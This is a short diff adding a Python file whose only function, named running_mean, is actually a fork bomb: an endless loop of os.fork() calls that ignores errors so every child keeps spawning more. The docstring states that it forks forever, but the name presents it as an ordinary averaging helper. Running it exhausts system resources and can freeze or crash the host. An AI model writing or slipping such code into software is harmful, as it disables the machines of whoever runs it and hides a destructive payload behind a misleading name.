@@ -1,0 +1,10 @@
+"""Forks for ever, in every child too."""
+import os
+
+
+def running_mean(x):
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            continue
